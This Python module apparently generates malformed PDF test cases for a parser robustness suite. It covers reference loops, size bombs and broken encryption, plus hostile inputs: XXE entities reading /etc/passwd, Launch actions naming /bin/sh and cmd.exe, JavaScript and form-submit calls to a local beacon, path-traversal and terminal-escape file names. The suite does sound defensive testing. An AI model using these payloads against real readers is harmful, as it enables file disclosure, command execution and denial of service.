"""PDF: everything beside the pages - outlines, name trees, annotations, forms, attachments, actions, encryption."""
from __future__ import annotations

from case import DAMAGED, ENCRYPTED, LOST, PARTLY, READ, SPENT, STOPPED, case
from ciphers import PdfCipher
from pdfkit import FILE_ID, b, deflated_repeat, simple, stream

KEPT = READ + PARTLY
BEYOND = KEPT + SPENT  # beside the pages: what takes too long to look at may be left out, and said


def with_parts(name, catalog, parts, allow=READ, why="", page_extra="", **more):
    """Two good pages, and `catalog` and `page_extra` that refer to `parts` as {0}, {1}, ..."""
    numbers = list(range(20, 20 + len(parts)))

    def fill(text):
        text = b(text)
        for i in range(min(len(numbers), 12)):
            text = text.replace(b"{%d}" % i, b"%d 0 R" % numbers[i])
        return text

    texts = [f"Trang 1 cua tep {name}", f"Trang 2 cua tep {name}"]
    pdf = simple(*texts, catalog_extra=fill(catalog).decode("latin-1"), page_extra=fill(page_extra).decode("latin-1"))
    for number, part in zip(numbers, parts):
        pdf.set(number, fill(part))
    data = pdf.build_stream(packed=tuple(numbers)) if len(parts) > 5000 else pdf.build(**more.pop("build", {}))
    if allow == READ or allow == KEPT:
        more.setdefault("contain", texts)
    more.setdefault("whole", texts)
    return case(f"{name}.pdf", allow, data, why, **more)


def outlines():
    def item(extra):
        return f"<< /Title (Muc) /Parent {{0}} /Dest [6 0 R /Fit] {extra} >>"

    root = "<< /Type /Outlines /First {1} /Last {1} /Count 2147483647 >>"
    here = "/Outlines {0}"
    yield with_parts("outline-next-itself", here, [root, item("/Next {1}")], BEYOND, "an entry that follows itself")
    yield with_parts("outline-next-loop", here, [root, item("/Next {2}"), item("/Next {1}")], BEYOND)
    yield with_parts("outline-first-itself", here, [root, item("/First {1} /Last {1} /Count 1")], BEYOND, "an entry under itself")
    yield with_parts("outline-first-parent", here, [root, item("/First {0} /Last {0} /Count 1")], BEYOND)
    yield with_parts("outline-is-catalog", "/Outlines 1 0 R", [root], BEYOND)
    yield with_parts("outline-wide-and-deep", here, [root] + [
        item(f"/First {{{i + 1}}} /Last {{{i + 1}}} /Next {{{i + 1}}} /Count 1") for i in range(1, 11)] + [item("")],
        BEYOND, "two ways down at each step")
    deep = ["<< /Type /Outlines /First 21 0 R >>"] + [
        f"<< /Title (Muc {i}) /Parent {19 + i} 0 R /First {21 + i} 0 R /Count 1 >>" for i in range(1, 20_000)] + ["<< /Title (x) >>"]
    yield with_parts("outline-deep", here, deep, BEYOND, "20,000 levels")
    wide = ["<< /Type /Outlines /First 21 0 R >>"] + [
        f"<< /Title (Muc {i}) /Parent 20 0 R /Next {21 + i} 0 R >>" for i in range(1, 50_000)] + ["<< /Title (x) >>"]
    yield with_parts("outline-wide", here, wide, BEYOND, "50,000 entries")
    yield with_parts("outline-title-5mb", here, [root, "<< /Title (" + "T" * 5_000_000 + ") /Parent {0} >>"], BEYOND)
    yield with_parts("outline-title-escapes", here, [root, "<< /Title <feff001b005d0030003b0078000720 2e> /Parent {0} >>"], BEYOND)
    yield with_parts("outline-dest-named-loop", here + " /Names << /Dests {2} >>",
                     [root, "<< /Title (x) /Parent {0} /Dest (a) >>", "<< /Kids [{2} {2}] /Limits [(a) (z)] >>"], BEYOND)


def trees():
    for key in ("EmbeddedFiles", "Dests", "JavaScript"):
        yield with_parts(f"names-{key.lower()}-loop", f"/Names << /{key} {{0}} >>",
                         ["<< /Kids [{0} {1}] >>", "<< /Kids [{0}] /Names [(a) {0}] >>"], BEYOND, "a name tree within itself")
    doubling = [f"<< /Kids [{21 + i} 0 R {21 + i} 0 R] >>" for i in range(30)] + ["<< /Names [(a) << /F (a) >>] >>"]
    yield with_parts("names-doubling", "/Names << /EmbeddedFiles {0} >>", doubling, BEYOND, "2^30 attachments in 31 objects")
    yield with_parts("names-deep", "/Names << /EmbeddedFiles {0} >>", [
        f"<< /Kids [{21 + i} 0 R] >>" for i in range(30_000)] + ["<< /Names [] >>"], BEYOND + STOPPED)
    yield with_parts("names-odd", "/Names << /EmbeddedFiles << /Names [(a) (b) (c)] >> /JavaScript << /Names [1 2] >> >>", [])
    yield with_parts("pagelabels-loop", "/PageLabels {0}", ["<< /Kids [{0}] /Nums [0 << /S /D /St 2147483647 >>] >>"], BEYOND)
    yield with_parts("structure-loop", "/StructTreeRoot {0} /MarkInfo << /Marked true >>",
                     ["<< /Type /StructTreeRoot /K [{1} {1}] /ParentTree {0} >>",
                      "<< /Type /StructElem /S /P /P {1} /K [{1} {0} 0] >>"], BEYOND)
    yield with_parts("layers-loop", "/OCProperties {0}",
                     ["<< /OCGs [{0} {1}] /D << /Order [{1} [{1} [{0}]]] /ON [{0}] >> >>", "<< /Type /OCG /Name {0} >>"], BEYOND)
    nested = "[" * 20_000 + "]" * 20_000
    yield with_parts("layers-order-deep", "/OCProperties << /OCGs [{0}] /D << /Order " + nested + " >> >>",
                     ["<< /Type /OCG /Name (x) >>"], BEYOND + STOPPED)
    yield with_parts("threads-loop", "/Threads [{0}]", ["<< /F {1} /I {0} >>", "<< /T {0} /N {1} /V {1} /P 6 0 R >>"], BEYOND)
    yield with_parts("collection-loop", "/Collection << /D (a) /Schema {0} /Folders {0} >>", ["<< /Child {0} /Next {0} >>"], BEYOND)


def annotations():
    def annot(entries):
        return f"<< /Type /Annot /Rect [10 10 90 90] {entries} >>"

    note = annot("/Subtype /Text /Contents (Ghi chu cua nguoi xem)")
    yield with_parts("annots-itself", "", ["[{0} {0} {0}]"], KEPT, page_extra="/Annots {0}")
    yield with_parts("annots-is-page", "", ["null"], KEPT, page_extra="/Annots [2 0 R 1 0 R 7 0 R]")
    yield with_parts("annot-popup-itself", "", [annot("/Subtype /Popup /Parent {0} /Popup {0}")], BEYOND, page_extra="/Annots [{0}]")
    yield with_parts("annot-reply-loop", "", [annot("/Subtype /Text /Contents (a) /IRT {1}"),
                                             annot("/Subtype /Text /Contents (b) /IRT {0}")], BEYOND, page_extra="/Annots [{0} {1}]")
    yield with_parts("annots-100000", "", [note], BEYOND + LOST, "one note, 100,000 times: Poppler takes no such page", page_extra="/Annots [" + "{0} " * 100_000 + "]")
    yield with_parts("annot-contents-5mb", "", [annot("/Subtype /Text /Contents (" + "G" * 5_000_000 + ")")], BEYOND,
                     page_extra="/Annots [{0}]")
    form = "/Type /XObject /Subtype /Form /BBox [0 0 90 90] "
    yield with_parts("annot-appearance-itself", "", [annot("/Subtype /Stamp /AP << /N {1} >>"),
                     stream(b"/X Do", form + "/Resources << /XObject << /X {1} >> >>")], BEYOND, page_extra="/Annots [{0}]")
    yield with_parts("annot-appearance-bomb", "", [annot("/Subtype /FreeText /AP << /N {1} >>"),
                     stream(deflated_repeat(b"0 0 9 9 re f " * 80_000, 100), form + "/Filter /FlateDecode")], BEYOND,
                     page_extra="/Annots [{0}]")
    yield with_parts("annot-appearance-states", "", [annot("/Subtype /Widget /FT /Btn /AS /X /AP << /N << /X {0} /Y {1} >> >>"),
                                                    "<< /X {1} >>"], BEYOND, page_extra="/Annots [{0}]")
    yield with_parts("annot-rect-overflow", "", ["<< /Type /Annot /Subtype /Stamp /Rect [1e308 -1e308 nan 2147483648] /AP << /N {1} >> >>",
                     stream(b"0 0 9 9 re f", form)], BEYOND, page_extra="/Annots [{0}]")
    yield with_parts("annot-quadpoints-million", "", [annot("/Subtype /Highlight /Contents (x) /QuadPoints [" + "1 " * 1_000_000 + "]")],
                     BEYOND, page_extra="/Annots [{0}]")
    yield with_parts("annot-ink-deep", "", [annot("/Subtype /Ink /InkList [" + "[1 1]" * 200_000 + "]")], BEYOND, page_extra="/Annots [{0}]")
    yield with_parts("annot-richmedia", "", [annot("/Subtype /RichMedia /RichMediaContent << /Assets {0} /Configurations [{0}] >>"),
                     ], BEYOND, page_extra="/Annots [{0}]")
    yield with_parts("annot-screen-loop", "", [annot("/Subtype /Screen /A {1} /AA << /PO {1} >>"),
                     "<< /S /Rendition /R {1} /AN {0} /Next [{1} {1}] >>"], BEYOND, page_extra="/Annots [{0}]")


def forms():
    field = "/Subtype /Widget /Rect [10 10 90 30]"
    yield with_parts("field-kids-itself", "/AcroForm << /Fields [{0}] >>", [f"<< /FT /Tx /T (a) {field} /Kids [{{0}}] >>"], BEYOND)
    yield with_parts("field-kids-loop", "/AcroForm << /Fields [{0}] >>",
                     ["<< /FT /Tx /T (a) /Kids [{1}] >>", "<< /T (b) /Parent {0} /Kids [{0} {1}] >>"], BEYOND)
    yield with_parts("field-parent-itself", "/AcroForm << /Fields [{0}] >>", [f"<< /T (a) {field} /Parent {{0}} >>"], BEYOND,
                     page_extra="/Annots [{0}]")
    yield with_parts("field-parent-loop", "/AcroForm << /Fields [{0} {1}] >>",
                     [f"<< /T (a) {field} /Parent {{1}} >>", f"<< /T (b) {field} /Parent {{0}} >>"], BEYOND,
                     page_extra="/Annots [{0} {1}]")
    # The idea of a small file of the qpdf test suite that keeps Poppler 22.12 busy for ever: fields without a name share
    # kids and parents, so that each looks for its root through the other.
    unnamed = [f"<< /FT /Tx {field} /Kids [{{1}} {{2}}] >>",
               f"<< /FT /Tx {field} /Parent {{2}} /Kids [{{2}}] /V (Gia tri) >>",
               f"<< /FT /Tx {field} /Parent {{1}} /Kids [{{1}}] /V (Gia tri) >>"]
    yield with_parts("field-shared-unnamed", "/AcroForm << /Fields [{0} {1} {2}] >>", unnamed, BEYOND + STOPPED,
                     "fields without names that are each other's parents", page_extra="/Annots [{0} {1} {2}]")
    yield with_parts("field-shared-kids", "/AcroForm << /Fields [{0} {1}] >>",
                     ["<< /FT /Tx /Kids [{2}] >>", "<< /FT /Tx /Kids [{2}] >>", f"<< {field} /Parent {{0}} /V (x) >>"], BEYOND,
                     "one field of two parents without names", page_extra="/Annots [{2}]")
    doubling = ["<< /FT /Tx /Parent 20 0 R /Kids [%d 0 R %d 0 R] >>" % (21 + i, 21 + i) for i in range(28)] + [f"<< /T (z) /Parent 20 0 R {field} >>"]
    yield with_parts("field-doubling", "/AcroForm << /Fields [{0}] >>", doubling, BEYOND + STOPPED, "2^28 fields in 29 objects")
    deep = ["<< /FT /Tx /T (a) /Kids [%d 0 R] /Parent %d 0 R >>" % (21 + i, max(20, 19 + i)) for i in range(20_000)] + ["<< /T (z) >>"]
    yield with_parts("field-deep", "/AcroForm << /Fields [{0}] >>", deep, BEYOND + STOPPED, "20,000 levels of fields")
    wide = [f"<< /FT /Tx /T (f{i}) {field} /V (x) >>" for i in range(9_000)]
    yield with_parts("field-wide", "/AcroForm << /Fields [" + " ".join(f"{20 + i} 0 R" for i in range(9_000)) + "] >>", wide, BEYOND,
                     "9,000 fields", page_extra="/Annots [" + " ".join(f"{20 + i} 0 R" for i in range(9_000)) + "]")
    yield with_parts("field-value-5mb", "/AcroForm << /Fields [{0}] /NeedAppearances true >>",
                     [f"<< /FT /Tx /T (a) {field} /V (" + "V" * 5_000_000 + ") >>"], BEYOND, page_extra="/Annots [{0}]")
    yield with_parts("field-options-million", "/AcroForm << /Fields [{0}] >>",
                     [f"<< /FT /Ch /T (a) {field} /V (x) /Opt [" + "(x)" * 500_000 + "] /I [2147483647 -1] >>"], BEYOND,
                     page_extra="/Annots [{0}]")
    yield with_parts("field-calculation-loop", "/AcroForm << /Fields [{0}] /CO [{0} {0}] >>",
                     [f"<< /FT /Tx /T (a) {field} /AA << /C << /S /JavaScript /JS {{0}} >> >> >>"], BEYOND)
    xfa = b'<!DOCTYPE x [<!ENTITY c SYSTEM "file:///etc/passwd">]><x>&c;</x>'
    yield with_parts("xfa-entities", "/AcroForm << /Fields [] /XFA [(a) {0} (b) {0}] >>", [stream(xfa)], BEYOND, absent="root:x:0")
    yield with_parts("xfa-bomb", "/AcroForm << /Fields [] /XFA {0} >>", [stream(deflated_repeat(b"<a>" * 300_000, 500), "/Filter /FlateDecode")],
                     BEYOND)


def signatures():
    def signature(name, ranges, contents="<" + "30" * 200 + ">", extra="", allow=BEYOND, why=""):
        return with_parts(name, "/AcroForm << /Fields [{0}] /SigFlags 3 >>",
                          ["<< /FT /Sig /T (Chu ky) /Subtype /Widget /Rect [10 10 90 30] /V {1} >>",
                           f"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange {ranges} "
                           f"/Contents {contents} {extra} >>"], allow, why, page_extra="/Annots [{0}]")

    yield signature("signature-range-beyond", "[0 99999999 100000000 5]", why="signed bytes that are not there")
    yield signature("signature-range-negative", "[-100 50 -1 -1]")
    yield signature("signature-range-overflow", "[0 9223372036854775807 9223372036854775807 9223372036854775807]")
    yield signature("signature-range-backwards", "[500 100 0 400]")
    yield signature("signature-range-odd", "[0]")
    yield signature("signature-range-million", "[" + "0 1 " * 500_000 + "]")
    yield signature("signature-contents-5mb", "[0 10 20 10]", "<" + "30" * 5_000_000 + ">")
    yield signature("signature-contents-empty", "[0 10 20 10]", "<>")
    yield signature("signature-der-deep", "[0 10 20 10]", "<" + "3080" * 50_000 + ">", why="50,000 open sequences in DER")
    yield signature("signature-der-length", "[0 10 20 10]", "<3084ffffffff06092a864886f70d010702>", why="a DER length of 4 GB")
    yield signature("signature-no-contents", "[0 10 20 10]", "null")
    yield signature("signature-itself", "[0 10 20 10]", "{1}", "/Reference [{1}] /Prop_Build {1}")
    yield signature("signature-time-lies", "[0 10 20 10]", extra="/M (D:99999999999999+99'99') /Name (" + "N" * 100_000 + ")")


def attachments():
    def attached(name, spec, parts=(), allow=BEYOND, **more):
        return with_parts(name, "/Names << /EmbeddedFiles << /Names [(a) {0}] >> >>", [spec, *parts], allow, **more)

    yield attached("attachment-bomb", "<< /Type /Filespec /F (a.pdf) /EF << /F {1} >> >>",
                   [stream(deflated_repeat(bytes(1 << 20), 1000), "/Type /EmbeddedFile /Filter /FlateDecode")],
                   warnings="embedded-file", why="an attachment of 1 GB")
    yield attached("attachment-itself", "<< /Type /Filespec /F (a.pdf) /EF << /F {0} >> /RF {0} >>")
    yield attached("attachment-path", "<< /Type /Filespec /F (../../../../tmp/capdo-escaped) /EF << /F {1} >> >>",
                   [stream(b"x", "/Type /EmbeddedFile")], warnings="embedded-file", why="its name is a path")
    yield attached("attachment-name-escapes", "<< /Type /Filespec /UF <feff001b005b0032004a202e0066006400700020066> /F (a) /EF << /F {1} >> >>",
                   [stream(b"x", "/Type /EmbeddedFile")], warnings="embedded-file", why="its name steers a terminal")
    yield attached("attachment-name-html", "<< /Type /Filespec /F (<script>alert\\(1\\)</script>) /EF << /F {1} >> >>",
                   [stream(b"x", "/Type /EmbeddedFile")], warnings="embedded-file")
    yield attached("attachment-size-lies", "<< /Type /Filespec /F (a) /EF << /F {1} >> >>",
                   [stream(b"x", "/Type /EmbeddedFile /Params << /Size -2147483648 >>")], warnings="embedded-file")
    yield attached("attachment-url", "<< /Type /Filespec /FS /URL /F (http://127.0.0.1:BEACON/a) >>")
    many = " ".join(f"(f{i}) << /F (f{i}) /EF << /F {{0}} >> >>" for i in range(20_000))
    yield with_parts("attachments-20000", f"/Names << /EmbeddedFiles << /Names [{many}] >> >>", [stream(b"x", "/Type /EmbeddedFile")],
                     BEYOND, "one attachment under 20,000 names")


def actions(beacon):
    address = f"http://127.0.0.1:{beacon}/"
    uses = {
        "javascript": "/S /JavaScript /JS (app.launchURL\\('%s', true\\); this.exportDataObject\\(\\);)" % address,
        "launch": "/S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >>",
        "uri": f"/S /URI /URI ({address})", "gotor": "/S /GoToR /F (//127.0.0.1/share/a.pdf) /D [0 /Fit]",
        "gotoe": "/S /GoToE /T << /R /C /N (a) /T 4711 0 R >>", "submit": f"/S /SubmitForm /F << /FS /URL /F ({address}) >> /Flags 512",
        "import": "/S /ImportData /F (/etc/passwd)", "named": "/S /Named /N /SaveAs", "sound": "/S /Sound /Sound 5 0 R",
        "unknown": "/S /Execute /Cmd (id)",
    }
    for name, action in uses.items():
        yield with_parts(f"action-{name}", "/OpenAction {0} /AA << /WC {0} /DP {0} >>", [f"<< /Type /Action {action} >>"], READ,
                         "runs when the file is opened", page_extra="/AA << /O {0} >>",
                         warnings="javascript" if name == "javascript" else (), absent="root:x:0")
    yield with_parts("action-next-itself", "/OpenAction {0}", ["<< /S /GoTo /D [6 0 R /Fit] /Next [{0} {0}] >>"], BEYOND)
    yield with_parts("javascript-bomb", "/OpenAction << /S /JavaScript /JS {0} >>",
                     [stream(deflated_repeat(b"a();" * 250_000, 500), "/Filter /FlateDecode")], BEYOND)
    yield with_parts("metadata-entities", "/Metadata {0}", [stream(
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY c SYSTEM "file:///etc/passwd">]><x:xmpmeta xmlns:x="adobe:ns:meta/">&c;</x:xmpmeta>',
        "/Type /Metadata /Subtype /XML")], absent="root:x:0")
    yield with_parts("info-itself", "", ["<< /Title {0} /Author {0} >>"], BEYOND, build={"extra": "/Info 20 0 R"})
    yield with_parts("info-title-escapes", "", ["<< /Title <feff001b005d0035003200630000> /Author (\\033]0;x\\007) >>"],
                     build={"extra": "/Info 20 0 R"})


def encryption():
    def page(name):
        return simple(f"Trang 1 cua tep {name}", f"Trang 2 cua tep {name}")

    for method in ("RC4-40", "RC4-128", "AESV2", "AESV3-R5", "AESV3-R6"):
        for user, kind in ((b"mat khau", "user"), (b"", "owner")):
            name = f"encrypted-{method.lower()}-{kind}"
            cipher = PdfCipher(method, user, b"chu so huu", FILE_ID)
            text = [f"Trang {i} cua tep {name}" for i in (1, 2)]
            yield case(f"{name}.pdf", ENCRYPTED if user else READ, page(name).build(encrypt=cipher),
                       "nobody here knows the password" if user else "everybody may open it; only changes need a password",
                       contain=() if user else text, absent=text if user else ())
    locked = ENCRYPTED + ("unreadable/damaged", "unreadable/unsupported")
    common = f"/O <{'41' * 32}> /U <{'42' * 32}> /P -44"
    for name, dictionary, allow in (
            ("unknown-handler", f"<< /Filter /FoxitConnectedPDF /V 4 /R 4 {common} >>", locked),
            ("public-key", "<< /Filter /Adobe.PubSec /SubFilter /adbe.pkcs7.s5 /V 4 /Recipients [<3080>] >>", locked),
            ("version-99", f"<< /Filter /Standard /V 99 /R 99 {common} >>", locked + KEPT),
            ("garbage", "<< /Filter /Standard /V (x) /R /y /O 1 /U 2 /P (z) >>", locked + KEPT),
            ("empty", "<< >>", locked + KEPT),
            ("short-keys", "<< /Filter /Standard /V 2 /R 3 /Length 128 /O <41> /U <42> /P -44 >>", locked),
            ("long-keys", f"<< /Filter /Standard /V 2 /R 3 /Length 128 /O <{'41' * 200_000}> /U <{'42' * 200_000}> /P -44 >>", locked),
            ("length-1", f"<< /Filter /Standard /V 2 /R 3 /Length 1 {common} >>", locked),
            ("length-2e31", f"<< /Filter /Standard /V 2 /R 3 /Length 2147483647 {common} >>", locked),
            ("length-negative", f"<< /Filter /Standard /V 2 /R 3 /Length -128 {common} >>", locked),
            ("filter-missing", f"<< /Filter /Standard /V 4 /R 4 /Length 128 {common} /StmF /Nowhere /StrF /Nowhere >>", locked + KEPT),
            ("filter-itself", f"<< /Filter /Standard /V 4 /R 4 {common} /CF 9 0 R /StmF /StdCF >>", locked + KEPT),
            ("r6-garbage", f"<< /Filter /Standard /V 5 /R 6 /Length 256 /O <{'41' * 48}> /U <{'42' * 48}> /OE <{'43' * 32}> "
                           f"/UE <{'44' * 32}> /Perms <{'45' * 16}> /P -44 >>", locked)):
        # Where it is passed over, the text under it (it is not encrypted) must be there.
        yield case(f"encrypt-{name}.pdf", allow, page(f"encrypt-{name}").build(encrypt=dictionary), "an /Encrypt that nobody can use",
                   whole=[f"Trang {i} cua tep encrypt-{name}" for i in (1, 2)])
    for name, extra, allow in (("encrypt-dangling", "/Encrypt 4711 0 R", locked + KEPT), ("encrypt-number", "/Encrypt 17", locked + KEPT),
                               ("encrypt-is-catalog", "/Encrypt 1 0 R", locked + KEPT)):
        yield case(f"{name}.pdf", allow, page(name).build(extra), whole=f"Trang 1 cua tep {name}")
    name = "encrypt-without-id"
    cipher = PdfCipher("RC4-128", b"", b"chu", b"")
    data = page(name).build(encrypt=cipher)
    yield case(f"{name}.pdf", READ + locked, data.replace(b"/ID [", b"/IX ["), whole=f"Trang 1 cua tep {name}")
    name = "encrypt-only-claimed"
    data = page(name).build(encrypt=PdfCipher("RC4-128", b"", b"chu", FILE_ID).dictionary)
    yield case(f"{name}.pdf", LOST, data, "opens without a password, and what it calls encrypted is not: rubbish comes out",
               whole=f"Trang 1 cua tep {name}")
    name = "encrypted-embedded-only"
    yield case(f"{name}.pdf", READ, page(name).build(
        "", encrypt=PdfCipher("AESV2", b"", b"chu", FILE_ID).dictionary.replace("/StmF /StdCF /StrF /StdCF",
                                                                              "/StmF /Identity /StrF /Identity /EFF /StdCF")),
        "only attachments are encrypted", contain=f"Trang 1 cua tep {name}")


def cases(place):
    for group in (outlines, trees, annotations, forms, signatures):
        yield from group()
    for one in attachments():
        one.data = one.data.replace(b"BEACON", b"%05d" % place.beacon)
        yield one
    yield from actions(place.beacon)
    yield from encryption()
